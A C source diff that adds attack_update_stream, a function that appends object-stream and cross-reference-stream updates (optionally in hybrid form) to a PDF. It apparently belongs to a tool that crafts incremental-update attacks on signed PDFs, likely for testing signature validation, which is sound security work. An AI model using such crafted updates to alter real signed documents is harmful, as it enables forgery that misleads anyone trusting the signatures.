@@ -154,6 +154,70 @@ struct bytes attack_update(struct arena *a, struct bytes file, unsigned leave_ou
     return taken(a, &b);
 }
 
+static void put_row(struct buf *rows, struct buf *index, int id, int type, size_t value, size_t at)
+{
+    buf_fmt(index, "%d 1 ", id);
+    buf_add_char(rows, (char)type);
+    for (int k = 3; k >= 0; k--)
+        buf_add_char(rows, (char)(uint8_t)(value >> (8 * k)));
+    buf_add_char(rows, (char)(uint8_t)(at >> 8));
+    buf_add_char(rows, (char)(uint8_t)at);
+}
+
+struct bytes attack_update_stream(struct arena *a, struct bytes file, bool hybrid,
+                                  const char *const *objects)
+{
+    struct buf b = buf_init(LIMIT), rows = buf_init(65536), index = buf_init(65536);
+    struct buf head = buf_init(65536), body = buf_init(1 << 20);
+    unsigned long long prev = number_behind(file, "startxref");
+    size_t inside = 0;
+    bool listed[256] = { false };
+
+    buf_add_bytes(&b, file);
+    for (; *objects; objects++) {
+        int id = (int)strtol(*objects, NULL, 10);
+        const char *text = strchr(*objects, ' ') + 1;
+        if (strstr(text, "stream")) {
+            put_row(&rows, &index, id, 1, b.n, 0);
+            buf_fmt(&b, "%d 0 obj\n%s\nendobj\n", id, text);
+            continue;
+        }
+        if (!listed[id & 255])
+            put_row(&rows, &index, id, 2, 210, inside);
+        listed[id & 255] = true;
+        buf_fmt(&head, "%d %zu ", id, body.n);
+        buf_fmt(&body, "%s\n", text);
+        inside++;
+    }
+    put_row(&rows, &index, 210, 1, b.n, 0);
+    buf_fmt(&b, "210 0 obj\n<</Type/ObjStm/N %zu/First %zu/Length %zu>>\nstream\n", inside, head.n,
+            head.n + body.n);
+    buf_add_bytes(&b, buf_bytes(&head));
+    buf_add_bytes(&b, buf_bytes(&body));
+    buf_add_z(&b, "\nendstream\nendobj\n");
+    size_t at = b.n;
+    put_row(&rows, &index, 211, 1, at, 0);
+    buf_fmt(&b, "211 0 obj\n<</Type/XRef/W[1 4 2]/Index[%.*s]/Size 212/Root 1 0 R/Length %zu",
+            (int)index.n, (const char *)index.p, rows.n);
+    if (!hybrid)
+        buf_fmt(&b, "/Prev %llu", prev);
+    buf_add_z(&b, ">>\nstream\n");
+    buf_add_bytes(&b, buf_bytes(&rows));
+    buf_add_z(&b, "\nendstream\nendobj\n");
+    if (hybrid) {
+        size_t table = b.n;
+        buf_fmt(&b, "xref\n0 0\ntrailer\n<</Size 212/Root 1 0 R/Prev %llu/XRefStm %zu>>\n", prev,
+                at);
+        at = table;
+    }
+    buf_fmt(&b, "startxref\n%zu\n%%%%EOF\n", at);
+    buf_free(&rows);
+    buf_free(&index);
+    buf_free(&head);
+    buf_free(&body);
+    return taken(a, &b);
+}
+
 /* ---- signatures by hand ---- */
 
 const char *attack_room(struct arena *a)
